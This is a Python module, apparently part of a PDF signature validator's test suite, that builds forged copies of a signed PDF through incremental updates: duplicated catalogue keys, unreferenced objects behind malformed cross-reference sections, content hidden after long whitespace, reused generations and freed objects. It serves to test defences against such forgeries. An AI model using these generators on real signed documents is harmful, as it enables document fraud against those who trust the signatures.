"""Attacks on the structure of what is appended to a signed PDF, for which nobody needs a key.

Two readers are to see two files: a key given twice of which one takes the first and one the last; objects that no
cross-reference section names, with a section that viewers reject and so look for objects themselves; and forged
content behind so much white space that nobody looks there.
"""

from __future__ import annotations

import io
import re
from collections.abc import Iterator
from dataclasses import dataclass

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.reader import PdfFileReader

from edocx.testing.attacks import Attack

_CONTENT = b"BT /F1 40 Tf 100 500 Td (FORGED) Tj ET"
_BEYOND = 70_000
"""Bytes of white space; what looks at the last 64 KB of a file only sees nothing else."""


def structure_forgeries(data: bytes) -> Iterator[Attack]:
    """Yield copies of a signed PDF that show another page in some viewers; its newest section must be a table."""
    file = _File.read(data)
    for name, pages in _TWICE.items():
        yield Attack(f"appended-key-{name}", file.with_catalogue(pages))
    for name in _TRICKS:
        yield Attack(f"appended-unnamed-{name}", file.with_unnamed(name))
    yield Attack("appended-orphans", file.with_catalogue(b""))
    for name, blank in {"spaces": b" ", "line-feeds": b"\n", "nuls": b"\0"}.items():
        hidden = file.unnamed() + b"trailer\n<</Size 9/Root %d 0 R>>\nstartxref\n1\n%%%%EOF\n" % file.root
        yield Attack(f"appended-behind-{name}", data + blank * _BEYOND + hidden)


def later_generation(data: bytes) -> Attack:
    """Return a copy whose page's content is written again as generation 1, and named as a certificate of the DSS."""
    return Attack("appended-later-generation", _File.read(data).with_generation())


def freed_objects(data: bytes) -> Iterator[Attack]:
    """Yield copies whose newest section calls the first page's content free, in ways that not all readers follow."""
    file = _File.read(data)
    for generation in (0, 1, 5, 65_535, 65_536, 70_000):
        yield Attack(f"appended-free-{generation}", file.with_free(generation))
        yield Attack(f"appended-free-stream-{generation}", file.with_free_stream(generation))


def renamed(data: bytes, was: bytes, becomes: bytes) -> Attack:
    """Return a copy whose first page is written again, a name on it with other bytes that some decode alike."""
    return Attack("appended-renamed", _File.read(data).with_page(was, becomes))


_TWICE = {
    "twice": b"/Pages %d 0 R",
    "escaped": b"/P#61ges %d 0 R",
    "nul": b"/Pages\0%d 0 R",
}
"""How the catalogue names its pages a second time."""

_TRICKS: dict[str, tuple[bytes, bytes]] = {
    "subsection-negative": (b"0 0\n", b"-1 0\n"),
    "subsection-huge": (b"0 0\n", b"4294967291 0\n"),
    "subsection-spaces": (b"0 0\n", b"0   0\n"),
    "subsection-comment": (b"xref\n", b"xref\n%c\n"),
    "subsection-beyond": (b"0 0\n", b"9999999 0\n"),
    "row-beyond": (b"0 0\n", b"0 1\n9999999999 65535 f \n"),
    "trailer-object": (b"/Size ", b"/Type(\n1 0 obj null endobj\n)/Size "),
    "size-huge": (b"/Size ", b"/Size 999999"),
    "size-small": (b"/Size ", b"/Size 3/X "),
    "size-twice": (b"/Size ", b"/Size 3/Size "),
    "root-missing": (b"/Root", b"/Toor"),
    "root-twice": (b"/Root", b"/Root 99 0 R/Root"),
    "previous-twice": (b"/Prev", b"/Prev 1/Prev"),
    "previous-plus": (b"/Prev ", b"/Prev +"),
    "start-plus": (b"startxref\n", b"startxref\n+"),
    "start-off": (b"startxref\n", b"startxref\n0"),
    "rows-short": (b"0 0\n", b"0 1\n0000000000 65535 f\n"),
    "rows-long": (b"0 0\n", b"0 1\n0000000000 65535 f \r\n"),
    "nothing": (b"0 0\n", b"0 0\n"),
}
"""What to put in place of what in an empty section."""


@dataclass(frozen=True, slots=True)
class _File:
    data: bytes
    root: int
    page: int
    size: int
    previous: int
    catalogue: bytes

    @classmethod
    def read(cls, data: bytes) -> _File:
        reader = PdfFileReader(io.BytesIO(data), strict=False)
        catalogue = io.BytesIO()
        reader.root.write_to_stream(catalogue, None)
        page = reader.root["/Pages"]["/Kids"].raw_get(0)
        if not isinstance(page, generic.IndirectObject):
            raise TypeError("a page is an object of its own")
        return cls(
            data=data,
            root=int(reader.root_ref.idnum),
            page=int(page.idnum),
            size=int(reader.trailer["/Size"]),
            previous=int(re.findall(rb"startxref\s+(\d+)", data)[-1]),
            catalogue=catalogue.getvalue(),
        )

    def with_catalogue(self, pages: bytes) -> bytes:
        """Append the catalogue with pages of its own, named a second time by ``pages``; or by nothing at all."""
        first = self.size
        more = pages % first if pages else b""
        bodies = {
            self.root: self.catalogue.rstrip()[:-2] + more + b">>",
            first: b"<</Type/Pages/Count 1/Kids[%d 0 R]>>" % (first + 1),
            first + 1: _page(first, first + 2),
            first + 2: b"<</Length %d>>\nstream\n%s\nendstream" % (len(_CONTENT), _CONTENT),
        }
        out, rows = bytearray(self.data), b""
        for number, body in bodies.items():
            rows += b"%d 1\n%010d 00000 n \n" % (number, len(out))
            out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
        return bytes(out) + self._section(rows, len(out), first + 3)

    def with_generation(self) -> bytes:
        """Append other content under the number of the first page's and the next generation."""
        number = self.content
        out, rows = bytearray(self.data), b""
        reached = b"/DSS<</Certs[%d 1 R]>>>>" % number
        for one, generation, body in (
            (self.root, 0, self.catalogue.rstrip()[:-2] + reached),
            (number, 1, b"<</Length %d>>\nstream\n%s\nendstream" % (len(_CONTENT), _CONTENT)),
        ):
            rows += b"%d 1\n%010d %05d n \n" % (one, len(out), generation)
            out += b"%d %d obj\n%s\nendobj\n" % (one, generation, body)
        return bytes(out) + self._section(rows, len(out), self.size)

    def with_free(self, generation: int) -> bytes:
        """Append a table that takes the first page's content away."""
        return self.data + self._section(
            b"%d 1\n%010d %05d f \n" % (self.content, 0, generation), len(self.data), self.size
        )

    def with_free_stream(self, generation: int) -> bytes:
        """Append a cross-reference stream that does."""
        start = len(self.data)
        rows = {self.content: (0, 0, generation), self.size: (1, start, 0)}
        packed = b"".join(b"%c" % kind + to.to_bytes(4) + more.to_bytes(4) for kind, to, more in rows.values())
        index = b" ".join(b"%d 1" % number for number in rows)
        about = b"/Type/XRef/W[1 4 4]/Index[%s]/Size %d/Root %d 0 R/Prev %d/Length %d" % (
            index, self.size + 1, self.root, self.previous, len(packed),
        )  # fmt: skip
        body = b"%d 0 obj\n<<%s>>\nstream\n%s\nendstream\nendobj\n" % (self.size, about, packed)
        return self.data + body + b"startxref\n%d\n%%%%EOF\n" % start

    def with_page(self, was: bytes, becomes: bytes) -> bytes:
        """Append the first page once more, some of its bytes exchanged."""
        begin = self.data.rindex(b"\n%d 0 obj" % self.page) + 1
        page = self.data[begin : self.data.index(b"endobj", begin)] + b"endobj\n"
        row = b"%d 1\n%010d 00000 n \n" % (self.page, len(self.data))
        out = self.data + page.replace(was, becomes)
        return out + self._section(row, len(out), self.size)

    @property
    def content(self) -> int:
        """The number of the first page's content."""
        reader = PdfFileReader(io.BytesIO(self.data), strict=False)
        return int(reader.root["/Pages"]["/Kids"][0].raw_get("/Contents").idnum)

    def unnamed(self) -> bytes:
        """Make another first page; no section names it."""
        content = b"<</Length %d>>\nstream\n%s\nendstream" % (len(_CONTENT), _CONTENT)
        page = _page(1, self.size)
        return b"%d 0 obj\n%s\nendobj\n%d 0 obj\n%s\nendobj\n" % (self.page, page, self.size, content)

    def with_unnamed(self, trick: str) -> bytes:
        """Append the other page, and a section that viewers reject for one reason."""
        out = self.data + self.unnamed()
        was, becomes = _TRICKS[trick]
        return out + self._section(b"0 0\n", len(out), self.size).replace(was, becomes, 1)

    def _section(self, rows: bytes, start: int, size: int) -> bytes:
        trailer = b"<</Size %d/Root %d 0 R/Prev %d>>" % (size, self.root, self.previous)
        return b"xref\n" + rows + b"trailer\n" + trailer + b"\nstartxref\n%d\n%%%%EOF\n" % start


def _page(parent: int, content: int) -> bytes:
    font = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"
    about = b"/MediaBox[0 0 595 842]/Resources<</Font<</F1%s>>>>" % font
    return b"<</Type/Page/Parent %d 0 R%s/Contents %d 0 R>>" % (parent, about, content)
